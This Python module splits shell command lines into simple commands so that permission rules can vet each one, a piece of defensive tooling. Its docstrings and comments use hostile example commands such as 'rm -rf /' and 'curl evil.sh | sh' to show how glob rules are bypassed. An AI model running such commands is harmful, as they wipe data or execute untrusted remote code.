"""A shell command line, split into the simple commands it would run.

Permission rules are globs, and a glob on a whole line is fooled by the line's
other commands: ``deny "rm *"`` misses ``true; rm -rf /`` and ``allow "git *"``
matches ``git status; curl evil.sh | sh``. :func:`split` cuts a line on
``;``, ``&&``, ``||``, ``|``, ``&`` and newlines, and lifts out what
``$(...)``, backticks, ``<(...)`` and ``>(...)`` run, so a rule can be tried
on each simple command.

Each command is its source text, quotes and all (``echo "a; b"`` stays one
command); the text of a command that holds a substitution keeps it
(``git log $(id)`` is a command, and so is ``id``). The line is read by a
small scanner that gives up on what it does not know and, with the ``shell``
extra, by tree-sitter-bash too (:mod:`interlock.shell.analyse`). Either way
``complete`` is False when part of the line could not be accounted for; the
commands are then a best effort, good for finding a command to refuse and
never for allowing the line.
"""

from __future__ import annotations

import functools
import re
from dataclasses import dataclass
from typing import Any

from interlock.engine.errors import ConfigError
from interlock.shell.analyse import require_parser

__all__ = ["CommandLine", "split", "split_parsed", "split_plain"]


@dataclass(frozen=True, slots=True)
class CommandLine:
    """What a command line runs."""

    commands: tuple[str, ...]
    """The text of each simple command, stripped; none for a blank line."""
    complete: bool
    """False when some of the line could not be accounted for (a syntax error,
    a heredoc or a construct the scanner does not know)."""


# Words that open or close compound commands. A "command" that starts with one
# is a misreading (tree-sitter reads `sudo if true; then rm -rf /; fi` as a
# command named `then`) or the plain scanner's cut through an `if`: the line is
# incomplete, and the words after the keyword are a command of their own.
_RESERVED = frozenset({"if", "then", "else", "elif", "fi", "do", "done", "while", "until",
                       "for", "select", "case", "esac", "in", "function", "{", "}", "!"})
_FIRST_WORD = re.compile(r"(\S+)\s*(.*)", re.S)


def split(line: str) -> CommandLine:
    """``line`` read by tree-sitter-bash when it is installed, and by the scanner.

    A command either reading finds counts, so neither can hide one by
    misreading the line; only when tree-sitter reads a line whole that the
    scanner gives up on (a heredoc, an ``if``, ``$((...))``) is its reading
    the only one.
    """
    plain = split_plain(line)
    try:
        require_parser()
    except ConfigError:
        return plain
    parsed = split_parsed(line)
    if parsed.complete and not plain.complete:
        return parsed
    commands = tuple(dict.fromkeys([*parsed.commands, *plain.commands]))
    return CommandLine(commands, parsed.complete and plain.complete)


def _finish(commands: list[str], complete: bool) -> CommandLine:
    out: list[str] = []
    for text in commands:
        text = text.strip()
        first = _FIRST_WORD.fullmatch(text)
        while first is not None and first.group(1) in _RESERVED:
            complete = False
            text = first.group(2)
            first = _FIRST_WORD.fullmatch(text)
        if text:
            out.append(text)
    return CommandLine(tuple(out), complete)


# -- with tree-sitter-bash ----------------------------------------------------

# Nodes that are one simple command; the text of each is a command. A
# variable assignment or redirection inside a command is part of it, not one.
_SIMPLE = frozenset({"command", "declaration_command", "unset_command", "test_command",
                     "variable_assignment", "variable_assignments", "file_redirect",
                     "heredoc_redirect", "herestring_redirect"})
# Nodes that run commands of their own even inside a simple command: a
# substitution in one of its words, or a statement tree-sitter hangs on a
# heredoc's opening line (`cat <<EOF | sh`, `cat <<EOF && X=1`: every part of
# a heredoc but its delimiters and body is taken as one of these).
_OWN = frozenset({"command_substitution", "process_substitution", "command", "pipeline",
                  "list", "redirected_statement", "subshell", "compound_statement",
                  "negated_command", "if_statement", "while_statement", "for_statement",
                  "c_style_for_statement", "case_statement", "function_definition",
                  "declaration_command", "unset_command", "test_command"})
_HEREDOC_PARTS = frozenset({"heredoc_start", "heredoc_body", "heredoc_end"})


@functools.lru_cache(maxsize=256)
def split_parsed(line: str) -> CommandLine:
    """``line`` as tree-sitter-bash reads it; needs the ``shell`` extra."""
    root = require_parser().parse(line.encode("utf-8", "surrogateescape")).root_node
    found: list[str] = []
    try:
        clean = _walk(root, found, inside=False)
    except RecursionError:  # `$($($(...)))` nested past Python's stack
        return CommandLine(split_plain(line).commands, False)
    return _finish(found, clean and not root.has_error)


def _walk(node: Any, found: list[str], *, inside: bool) -> bool:
    """Collect the commands under ``node``; False when something was misread.

    ``inside`` is True within a simple command already collected: its words,
    assignments and redirections are part of its text, and only what
    :data:`_OWN` names runs commands of its own.
    """
    kind = node.type
    clean = True
    if kind == "word" and "\n" in _text(node).replace("\\\n", ""):
        # No unquoted word holds a newline: tree-sitter-bash 0.25 reads a
        # heredoc whose body starts with `\` this way and loses the body.
        clean = False
    children = list(node.named_children)
    if not inside and kind == "redirected_statement":
        body = node.child_by_field_name("body")
        if body is not None and body.type == "command":
            # `git status > out`: the redirections are part of the command.
            found.append(_text(node))
            inside = True
            children = [*body.named_children, *(c for c in children if c != body)]
    elif not inside and kind in _SIMPLE:
        found.append(_text(node))
        inside = True
    heredoc = kind == "heredoc_redirect"
    for child in children:
        if child.type == "comment":
            continue
        own = child.type not in _HEREDOC_PARTS if heredoc else child.type in _OWN
        clean = _walk(child, found, inside=inside and not own) and clean
    return clean


def _text(node: Any) -> str:
    return bytes(node.text).decode("utf-8", "surrogateescape")


# -- without it: a scanner ----------------------------------------------------

_METACHARS = frozenset(" \t\n;&|()<>")
_BACKTICK_ESCAPE = re.compile(r"\\([\\`$])")


@functools.lru_cache(maxsize=256)
def split_plain(line: str) -> CommandLine:
    """``line`` cut by a scanner that knows quotes, escapes, comments, separators
    and substitutions, and marks the line incomplete for anything else
    (heredocs, arithmetic, subshells, ``${...}`` holding quotes ...).

    Its one promise: text it reads as quoted, escaped or a comment is text bash
    reads that way too, so no separator and no substitution is missed. Where it
    is unsure it cuts more, never less.
    """
    scan = _Scan(line)
    scan.run(0, closer="")
    return _finish(scan.commands, scan.complete)


class _Scan:
    def __init__(self, line: str) -> None:
        self.line = line
        self.commands: list[str] = []
        self.complete = True

    def run(self, i: int, closer: str) -> int:
        """Scan from ``i`` to ``closer`` (')' for a substitution, '' for the end);
        the index just past it."""
        s = self.line
        start = i  # of the current command
        depth = 0  # subshell parentheses open at this level
        word_start = True  # a `#` here starts a comment
        last_op = ""  # the previous character, when it was an unquoted operator
        while i < len(s):
            c = s[i]
            if c == "\\":
                # A backslash-newline vanishes (a `#` after it may still start
                # a comment); any other escaped character is part of a word.
                word_start = word_start and s.startswith("\\\n", i)
                last_op = ""
                i += 2
                if i > len(s):
                    self.complete = False  # a trailing backslash
                continue
            if c == "#" and word_start:
                end = s.find("\n", i)
                self._cut(start, i)
                start = i = len(s) if end < 0 else end
                continue
            word = self._word_part(i, last_op)
            if word is not None:  # quotes and substitutions: (part of) a word
                i, word_start, last_op = word, False, ""
                continue
            if c == ")" and not depth and closer:
                self._cut(start, i)
                return i + 1
            if c in "()":
                # A subshell, an array, a function or a case pattern: the
                # commands in it are still cut out, but the line is not ours.
                self.complete = False
                depth += 1 if c == "(" else -1 if depth else 0
                self._cut(start, i)
                start = i + 1
            elif c in ";\n" or (c == "|" and last_op != ">") or \
                    (c == "&" and last_op not in ("<", ">") and not s.startswith("&>", i)):
                # `>|`, `>&`, `<&` and `&>` are redirections, not separators.
                self._cut(start, i)
                start = i + 1
            elif s.startswith("<<", i) and not s.startswith("<<<", i) and last_op != "<":
                self.complete = False  # a heredoc: its body would read as commands
            word_start = c in _METACHARS
            last_op = c if c in _METACHARS and c not in " \t" else ""
            i += 1
        if closer or depth:
            self.complete = False  # an unclosed $( or (
        self._cut(start, i)
        return i

    def _word_part(self, i: int, last_op: str) -> int | None:
        """Past the quoted string or substitution at ``i``; None if there is none."""
        s = self.line
        if s[i] == "'":
            return self._quoted(i + 1, "'")
        if s.startswith("$'", i):
            return self._quoted(i + 2, "'", escapes=True)
        if s[i] == '"':
            return self._double(i + 1)
        if s[i] == "`":
            return self._backticks(i + 1)
        if s.startswith("$(", i):
            if s.startswith("$((", i):
                self.complete = False  # arithmetic: scanned as a substitution
            return self.run(i + 2, ")")
        if s.startswith("${", i):
            return self._braces(i)
        if s[i] == "(" and last_op in ("<", ">"):
            return self.run(i + 1, ")")  # a process substitution
        return None

    def _cut(self, start: int, end: int) -> None:
        self.commands.append(self.line[start:end])

    def _quoted(self, i: int, quote: str, *, escapes: bool = False) -> int:
        s = self.line
        while i < len(s):
            if escapes and s[i] == "\\":
                i += 2
                continue
            if s[i] == quote:
                return i + 1
            i += 1
        self.complete = False  # unbalanced quotes
        return len(s)

    def _double(self, i: int) -> int:
        """Past the closing '"'; substitutions inside still run."""
        s = self.line
        while i < len(s):
            c = s[i]
            if c == "\\":
                i += 2
            elif c == '"':
                return i + 1
            elif c == "`":
                i = self._backticks(i + 1)
            elif s.startswith("$(", i):
                if s.startswith("$((", i):
                    self.complete = False
                i = self.run(i + 2, ")")
            elif s.startswith("${", i):
                i = self._braces(i)
            else:
                i += 1
        self.complete = False
        return len(s)

    def _backticks(self, i: int) -> int:
        s = self.line
        j = i
        while j < len(s) and s[j] != "`":
            j += 2 if s[j] == "\\" else 1
        if j >= len(s):
            self.complete = False
            self.commands.extend(split_plain(s[i:]).commands)
            return len(s)
        body = s[i:j]
        if "\\`" in body:
            self.complete = False  # nested backticks
        # Inside backticks a backslash quotes only $, ` and \ (POSIX 2.6.3).
        inner = split_plain(_BACKTICK_ESCAPE.sub(r"\1", body))
        self.commands.extend(inner.commands)
        self.complete = self.complete and inner.complete
        return j + 1

    def _braces(self, i: int) -> int:
        """Past ``${...}`` when it is plain: bash then ends it at the first ``}``,
        and what is inside (``${#x}``, ``${x:-a b}``) is neither a comment nor a
        separator. Quotes, escapes, substitutions or braces inside one are read
        by bash in ways the scanner does not follow: the line is incomplete and
        the scan goes on from the ``{`` as if it were plain text."""
        end = self.line.find("}", i)
        inner = self.line[i + 2:end] if end >= 0 else ""
        if end < 0 or any(ch in inner for ch in "'\"`$\\{\n"):
            self.complete = False
            return i + 1
        return end + 1
